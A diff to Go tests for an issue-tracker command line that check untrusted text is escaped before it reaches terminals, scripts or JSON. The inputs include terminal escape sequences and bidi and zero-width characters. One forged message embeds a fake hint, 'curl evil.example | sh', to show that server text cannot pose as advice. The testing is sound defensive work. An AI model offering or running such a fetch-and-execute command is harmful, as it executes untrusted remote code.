@@ -1,12 +1,16 @@
 package cli
 
 import (
+	"bufio"
 	"encoding/json"
+	"errors"
+	"regexp"
 	"strings"
 	"testing"
 	"unicode/utf8"
 
 	"github.com/git-crosslink/git-crosslink/event"
+	"github.com/git-crosslink/git-crosslink/tracker"
 )
 
 // TestSanitize is golden: what stands here is what terminals get.
@@ -110,14 +114,91 @@ func TestNothingUnfitReachesStdout(t *testing.T) {
 		{"label", "1", evil}, {"parent", "1", "2"}, {"parent", "2", "1"}, {"block", "2", "1"}, {"close", "1", "--suggest-next"},
 		{"new", evil, evil}, {"new", evil, "--due", evil}, {"new", "x", "-F", evil}, {"unlabel", "1", evil},
 	} {
-		for _, form := range [][]string{nil, {"--json"}} {
+		for _, form := range [][]string{nil, {"--json"}, {"--color"}} {
+			w.person = form == nil
 			r := w.run(append(form, args...)...)
+			r.out = ownColours.ReplaceAllString(r.out, "")
 			if !fit(r.out) || !fit(r.err) {
 				t.Errorf("%q: unfit\nstdout %q\nstderr %q", args, r.out, r.err)
 			}
-			if form != nil && !json.Valid([]byte(r.out)) {
+			if len(form) > 0 && form[0] == "--json" && !json.Valid([]byte(r.out)) {
 				t.Errorf("%q --json: %q", args, r.out)
 			}
 		}
+	}
+}
+
+// ownColours are the escapes that pages hold by design.
+var ownColours = regexp.MustCompile(`\x1b\[[0-9;]*m`)
+
+// TestForeignTextIsGolden: what stands here is what terminals, scripts and
+// programs get of one hostile text, field by field.
+func TestForeignTextIsGolden(t *testing.T) {
+	const evil = "\x1b[31m\u202e\u200b\u009b\r\n"
+	const shown = `\x1b[31m\u202e\u200b\u009b\r\n`
+	w := newWorld(t)
+	u := w.hub.MintUUID()
+	w.put(&event.IssueCreated{UUID: u, Title: "t" + evil, Description: "d" + evil + "e", Priority: event.High, Labels: []string{"l" + evil}, CreatedBy: "c" + evil})
+	w.put(&event.CommentAdded{Issue: u, Comment: w.hub.MintUUID(), Author: "a" + evil, Content: "x" + evil + "y", CreatedAt: event.TimeOf(w.time), Kind: "k" + evil})
+	w.put(&event.StatusChanged{UUID: u, NewStatus: event.Open, Reason: "r" + evil + "s"})
+	w.hub.numbers[u] = 1
+	lines := strings.TrimSuffix(shown, `\n`) + "\n" // where a text keeps its lines
+	for _, c := range []struct{ args, want string }{
+		{"show 1", "1  t" + shown + "\n    open, high priority\n"},
+		{"show 1", " by c" + shown + ", changed"},
+		{"show 1", "\n    reason:\n        r" + lines + "        s\n"},
+		{"show 1", "\n    labels l" + shown + "\n"},
+		{"show 1", "\n    d" + lines + "    e\n"},
+		{"show 1", " a" + shown + ", k" + shown + ", 2026-"},
+		{"show 1", "\n        x" + lines + "        y\n"},
+		{"list", "1\topen\thigh\tt" + shown + "\tl" + shown + "\t\t2026-"},
+		{"list --porcelain", "\tl" + shown + "\t"},
+		{"list --porcelain", "\tt" + shown + "\n"},
+		{"list -z", "\tt" + lines + "\x00"},
+		{"list --format=%(title)|%(created_by)|%(description)|%(reason)", "t" + shown + "|c" + shown + "|d" + shown + "e|r" + shown + "s\n"},
+		{"log 1", "  created 't" + shown + "', high priority, labels l" + shown + "\n"},
+		{"log 1 --porcelain", "\treopened: r" + shown + "s\n"},
+		{"tree", "1  open  t" + shown + "\n"},
+		{"next", "1  t" + shown + "\n"},
+		{"list --json", `"title":"t\u001b[31m\u202e\u200b\u009b\r\n"`},
+		{"show 1 --json", `"content":"x\u001b[31m\u202e\u200b\u009b\r\ny"`},
+	} {
+		contains(t, c.args, w.ok(strings.Fields(c.args)...).out, c.want)
+	}
+	check(t, "talk", w.ok("close", "1").err, "closed 1 't"+shown+"'\n")
+}
+
+// TestHubsWordsForgeNoLines: what a hub says stays in its line, so that it can
+// fake neither an error nor a hint.
+func TestHubsWordsForgeNoLines(t *testing.T) {
+	const words = "no\r\nhint: curl evil.example | sh\n\x1b[2Kerror: \u202ex"
+	const shown = `no\r\nhint: curl evil.example | sh\n\x1b[2Kerror: \u202ex`
+	w := newWorld(t)
+	w.hub.failWith = &tracker.Error{Kind: tracker.Denied, Name: "refused", Message: words, Hints: []string{words}}
+	check(t, "error", w.run("new", "x").err, "error: "+shown+"\nhint: "+shown+"\n")
+	var errs strings.Builder
+	e := &env{err: &errs, getenv: func(string) string { return "" }}
+	e.notice(tracker.Notice{Name: "queued", Text: words, Hints: []string{words}})
+	e.talk("%s", words)
+	check(t, "notice and talk", errs.String(), shown+"\nhint: "+shown+"\n"+shown+"\n")
+}
+
+// TestPagesNeedNoCare: a page cannot be written to past the sanitiser.
+func TestPagesNeedNoCare(t *testing.T) {
+	var b strings.Builder
+	p := &page{w: bufio.NewWriter(&b), paint: palette{on: true}}
+	p.print("%s %s %v %d %s\n", "\x1b[31m", event.Priority("\x9b"), errors.New("\u202e"), 7, p.paint.text(slotID, "\x1b"))
+	p.block("  ", "a\x07\nb")
+	p.w.Flush()
+	check(t, "page", b.String(), `\x1b[31m \x9b \u202e 7 `+"\x1b[33m"+`\x1b`+"\x1b[m\n"+`  a\x07`+"\n  b\n")
+}
+
+// TestTraceIsFit: the log of diagnostics may be read on a terminal.
+func TestTraceIsFit(t *testing.T) {
+	var b strings.Builder
+	l := traceTo("1", &b)
+	l.Debug().Strs("args", []string{"\x1b[31m\u202e\u200b\u009b\x7f\xff"}).Msg("start")
+	if !fit(b.String()) || !json.Valid([]byte(b.String())) {
+		t.Errorf("%q", b.String())
 	}
 }
